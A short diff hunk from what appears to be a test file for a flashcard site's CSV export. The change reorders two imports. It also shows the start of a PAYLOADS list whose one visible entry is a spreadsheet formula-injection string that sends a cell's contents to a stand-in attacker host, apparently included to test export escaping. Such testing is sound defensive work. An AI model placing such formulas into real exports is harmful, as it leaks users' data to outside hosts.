@@ -22,8 +22,8 @@ from flashcards.models import Deck, Note
 from studysite.exports import FORMULA_STARTS, csv_cell, csv_text
 from studysite.storable import repaired
 from tests.factories import UserFactory
-from tests.lessons.progress_factories import make_deck, review
 from tests.lessons.classes_factories import SchoolClassFactory, enroll
+from tests.lessons.progress_factories import make_deck, review
 
 PAYLOADS = [
     '=HYPERLINK("https://evil.example/?"&A1,"x")',
